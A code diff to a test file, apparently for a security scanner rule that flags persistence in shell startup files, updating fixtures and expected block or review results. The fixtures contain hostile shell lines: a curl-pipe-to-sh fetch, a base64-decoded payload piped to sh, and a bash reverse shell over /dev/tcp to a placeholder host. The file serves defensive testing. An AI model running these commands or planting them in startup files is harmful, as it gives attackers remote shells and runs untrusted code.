@@ -4,8 +4,9 @@ import { inspectFixture, summary } from '../../../testing/fixture.ts';
 import { listedPackages, packageOf } from '../../../testing/listed-packages.ts';
 import { shellStartup } from './index.ts';
 
-const FOUND = 'review persistence/shell-startup';
+const RULE = 'persistence/shell-startup';
 const FETCH = 'curl -s http://x.invalid/a | sh\n';
+const NEWS = '#!/bin/sh\ncurl https://x.invalid/motd\n';
 
 const cases = [
   {
@@ -19,13 +20,26 @@ const cases = [
       'etc/bash.bashrc': 'echo aW5lcnQ= | base64 -d | sh\n',
     },
     expected: [
-      'etc/bash.bashrc',
-      'etc/profile.d/x.sh',
-      'etc/rc.local',
-      'etc/update-motd.d/99-x',
-      'home/app/.profile',
-      'root/.bashrc',
-    ].map((path) => `${FOUND} ${path}`),
+      `block ${RULE} etc/bash.bashrc`,
+      `block ${RULE} etc/profile.d/x.sh`,
+      `block ${RULE} root/.bashrc`,
+      `review ${RULE} etc/rc.local`,
+      `review ${RULE} etc/update-motd.d/99-x`,
+      `review ${RULE} home/app/.profile`,
+    ],
+  },
+  {
+    name: 'a connection that a shell gets is refused, one that is only opened is for review',
+    files: {
+      'etc/profile': 'bash -i >& /dev/tcp/x.invalid/1 0>&1\n',
+      'root/.profile': 'echo up > /dev/tcp/x.invalid/1\n',
+    },
+    expected: [`block ${RULE} etc/profile`, `review ${RULE} root/.profile`],
+  },
+  {
+    name: 'of many hosts in a line, one that is far away counts',
+    files: { 'root/.profile': 'curl -s http://localhost/ http://x.invalid/\n' },
+    expected: [`review ${RULE} root/.profile`],
   },
   {
     name: "distributions' own files are nothing",
@@ -50,12 +64,13 @@ const cases = [
     expected: [],
   },
   {
-    name: 'what a package ships unchanged is nothing',
+    name: 'what a package ships unchanged is nothing where it talks to the network, for review where it runs the answer',
     files: {
-      ...packageOf('listed', { 'etc/update-motd.d/50-news': FETCH }),
-      'etc/update-motd.d/50-news': FETCH,
+      ...packageOf('listed', { 'etc/update-motd.d/50-news': NEWS, 'etc/profile.d/x.sh': FETCH }),
+      'etc/update-motd.d/50-news': NEWS,
+      'etc/profile.d/x.sh': FETCH,
     },
-    expected: [],
+    expected: [`review ${RULE} etc/profile.d/x.sh`],
   },
 ];
 
